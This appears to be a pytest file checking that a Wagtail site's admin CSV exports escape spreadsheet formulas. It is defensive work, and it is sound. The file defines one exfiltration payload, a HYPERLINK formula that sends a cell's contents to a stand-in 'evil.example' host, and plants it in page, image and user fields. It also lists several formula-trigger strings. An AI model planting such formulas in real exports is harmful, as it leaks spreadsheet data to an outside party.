"""What people wrote is text in the spreadsheet of whoever exports it, and never runs."""

from __future__ import annotations

import csv
import io

import pytest
from wagtail.contrib.redirects.models import Redirect

from snippets.spreadsheets import as_text
from tests import content
from tests.people import Person

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
def test_a_cell_that_a_program_would_run_is_text(cell: str) -> None:
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", [None, 1, -1, 1.5, "About", "a=b", "/about/", "", "من نحن"])
def test_other_cells_stay_as_they_are(cell: object) -> None:
    assert as_text(cell) == cell


def test_no_export_of_the_admin_runs(admin: Person) -> None:
    content.page(FORMULA, "formula")
    content.image(FORMULA)
    admin.user.first_name = FORMULA
    admin.user.save()
    Redirect.objects.create(old_path="/formula", redirect_link="/about/")
    exports = (
        "/admin/reports/site-history/",
        "/admin/reports/aging-pages/",
        "/admin/reports/page-types-usage/",
        "/admin/reports/undescribed-pictures/",
        "/admin/localize/reports/translations/",
        "/admin/redirects/",
    )
    count = 0
    for address in exports:
        answer = admin.client.get(address, {"export": "csv"})
        assert answer.headers["Content-Type"] == "text/csv", address
        text = b"".join(answer.streaming_content).decode()
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), (address, cell)
                count += FORMULA in cell
    assert count, "the formula is in one of them"
